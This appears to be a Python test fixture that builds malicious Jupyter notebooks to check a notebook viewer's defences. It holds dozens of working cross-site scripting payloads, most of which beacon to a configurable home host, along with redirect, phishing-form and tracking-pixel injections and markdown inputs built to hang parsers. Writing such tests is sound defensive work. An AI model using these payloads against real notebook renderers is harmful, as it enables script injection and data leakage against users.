"""Notebooks that try to run a script, or to break the page, in whatever shows them.

Every script does the same: it sets `window.pwned` and the title, and calls home. `{home}` is where it calls.
"""

import copy
import html
import json

SCRIPT = "window.pwned=1;document.title='pwned';new Image().src='{home}/script'"
TAGS = [
    "<script>{script}</script>",
    "</pre></div><script>{script}</script>",
    "<img src=x onerror=\"{script}\">",
    "<svg onload=\"{script}\"></svg>",
    "<svg><script>{script}</script></svg>",
    "<iframe srcdoc=\"<script>parent.{script}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{script}\"></iframe>",
    "<object data=\"javascript:{script}\"></object>",
    "<details open ontoggle=\"{script}\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"{script}\">",
    "<style>@import '{home}/style';</style>",
    "<link rel=stylesheet href='{home}/style'>",
    "<base href='{home}/'>",
    "<meta http-equiv=refresh content='0;url={home}/refresh'>",
    "<form action='{home}/form'><button>Full credit</button></form>",
    "<video src='{home}/video' autoplay onerror=\"{script}\"></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{script}\">",
    "<!--><img src=x onerror=\"{script}\">-->",
    "<a href=\"javascript:{script}\" autofocus>x</a>",
]  # fmt: skip
MARKDOWN = [
    "<\\hrefx tabindex=0 autofocus onfocus=\"{script}\">x</hrefx>",
    "<\\style>@import '{home}/style';</style>",
    "[x](javascript:{script})",
    "[x](\n javascript:{script})",
    "[x](java&#115;cript:{script})",
    "[x](<javascript:{script}>)",
    "[x][1]\n\n[1]: javascript:{script}",
    "[x][2]\n\n[2]:\njavascript:{script}",
    "![x](x \"\" onerror=\"{script}\")",
    "![x\" onerror=\"{script}](https://127.0.0.1:9/x)",
    "![x](https://127.0.0.1:9/x\"onerror=\"{script})",
    "<javascript:{script}>",
    "<https://127.0.0.1:9/\"onmouseover=\"{script}>",
    "https://127.0.0.1:9/\"onmouseover=\"{script}",
    "```html\n<script>{script}</script>\n```",
    "```mermaid\n</pre><script>{script}</script>\n```",
    "```\"><script>{script}</script>\nx\n```",
    "`</code><script>{script}</script>`",
    "$</script><script>{script}</script>$",
    "$$\\href{{javascript:{script}}}{{x}}$$",
    "\\begin{{a}}<img src=x onerror=\"{script}\">\\end{{a}}",
    "# <img src=x onerror=\"{script}\">",
    "| <img src=x onerror=\"{script}\"> |\n|---|\n| <svg onload=\"{script}\"> |",
    "\\<img src=x onerror=\"{script}\"\\>",
    "&lt;img src=x onerror=\"{script}\"&gt; &#60;script&#62;{script}&#60;/script&#62;",
    "![pixel]({home}/pixel.png) ![pixel][3] [![pixel]({home}/pixel.png)](#)\n\n[3]: {home}/pixel.png",
    "![a](attachment:nowhere.png)",
    "![a](attachment:drawing.svg)",
    "![a](attachment:\"onerror=\"{script}.png)",
]  # fmt: skip
UNPARSABLE = ["[" * 150_000, "![" * 75_000, "a" + " " * 150_000 + "b", "> " * 5_000, "- " * 50_000]


def filled(text, home):
    return (
        text.replace("{{", "{")
        .replace("}}", "}")
        .replace("{script}", SCRIPT)
        .replace("{home}", home)
    )


def markdown(text, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": text, **more}


def code(text, outputs=()):
    return {
        "cell_type": "code",
        "metadata": {},
        "source": text,
        "outputs": list(outputs),
        "execution_count": None,
    }


def display(kind, data):
    return {
        "output_type": "display_data",
        "metadata": {kind: {"isolated": True}},
        "data": {kind: data},
    }


def outputs(evil):
    """One of every kind of saved output, each with the markup `evil`."""
    script = evil.replace("<script>", "").replace("</script>", "")
    kinds = {
        "text/html": evil,
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>",
        "application/javascript": script,
        "text/markdown": evil,
        "text/latex": evil,
        "application/json": {evil: evil},
        "application/pdf": evil,
        "application/vnd.jupyter.widget-view+json": {"model_id": evil},
        "text/plain": evil,
        "image/png": f'"><script>{script}</script>',
        "image/jpeg": ['x" onerror="', script],
    }
    found = [display(kind, data) for kind, data in kinds.items()]
    found += [
        {"output_type": "stream", "name": name, "text": evil} for name in ("stdout", "stderr", evil)
    ]
    colours = (
        f"\x1b[31;1m{evil}\x1b]8;;javascript:{script}\x07link\x1b]8;;\x07\x1b[38;2;1;2;3m{evil}"
    )
    trouble = {"ename": evil, "evalue": colours, "traceback": [colours, "x" * 100_000]}
    return [*found, {"output_type": "error", **trouble}]


def scripts_everywhere(document, home):
    """Every payload in prose, code and outputs, and in what surrounds them."""
    document = copy.deepcopy(document)
    tags = [filled(text, home) for text in TAGS]
    texts = (
        tags + [html.escape(tag) for tag in tags[:3]] + [filled(text, home) for text in MARKDOWN]
    )
    svg = {"drawing.svg": {"image/svg+xml": tags[4]}, tags[2]: {"image/png": tags[2]}}
    document["cells"] += [markdown(text, attachments=svg) for text in texts]
    document["cells"] += [code(f"# {tag}\n'''{tag}'''") for tag in tags]
    document["cells"] += [code("%%html\n" + tag, outputs(tag)) for tag in tags]
    document["cells"] += [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": tag}
        for tag in tags
    ]
    own = [cell for cell in document["cells"] if cell["metadata"].get("nbgrader")]
    own[-1]["source"] = "\n\n".join(texts)
    for number, cell in enumerate(document["cells"]):
        cell["id"] = f"{number}{tags[2]}"
        cell["metadata"] |= {
            "tags": [tags[2]],
            "name": tags[0],
            "jupyter": {"source_hidden": tags[0]},
        }
    evil = {
        "name": tags[0],
        "display_name": tags[0],
        "language": tags[0],
        "file_extension": tags[0],
    }
    document["metadata"] = {
        "kernelspec": evil,
        "language_info": evil | {"codemirror_mode": tags[0], "pygments_lexer": tags[0]},
        "title": f"</title>{tags[0]}",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": tags[0]}},
    }
    return json.dumps(document).encode()


def prose_without_end(document):
    """Markdown that takes its parser minutes."""
    document = copy.deepcopy(document)
    document["cells"] += [markdown(text) for text in UNPARSABLE]
    return json.dumps(document).encode()
